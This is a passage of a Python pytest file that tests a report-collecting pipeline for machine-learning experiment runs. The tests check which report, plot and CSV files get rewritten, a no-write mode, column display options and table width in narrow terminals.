    (experiments[1].records_folder / f"{records[0].run_id}.1.json").write_text("{}")
    pipeline("collect", tmp_path)
    changed = {str(path.relative_to(tmp_path)) for path, inode in written().items() if first.get(path) != inode}
    assert {"x/report.html", "x/plots/q1.svg", "y/report.html"} <= changed, "a plot is gone, and a file is new"
    assert "x/q1.csv" not in changed


def test_no_write_changes_no_file(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "x", make_record())
    before = everything_in(tmp_path)
    answer = pipeline("collect", tmp_path, "--no-write")
    assert (answer.returncode, "## Q1" in answer.stdout) == (0, True)
    assert everything_in(tmp_path) == before


def test_all_columns_are_printed_by_their_keys_and_the_report_stays_as_it_is(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record())
    answer = pipeline("collect", tmp_path, "--columns", "all")
    assert "| status | epoch_time_s [s] |" in re.sub(" +", " ", answer.stdout)
    assert "epoch_time_s [s]" not in experiment.report.read_text()


def test_a_published_report_links_to_the_page_of_words() -> None:
    address = address_of_words(Experiment(ROOT / "published" / "a40-ddp"))
    assert (ROOT / "published" / "a40-ddp" / address).resolve() == ROOT / "docs" / "words.md"


def test_the_terminal_of_60_columns_gets_narrower_tables(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    arguments = argparse.Namespace(only="", columns="few")
    assert display_options(arguments).max_width == 60
    monkeypatch.setattr(sys.stdout, "isatty", lambda: False, raising=False)
    assert display_options(arguments).max_width == MAX_WIDTH
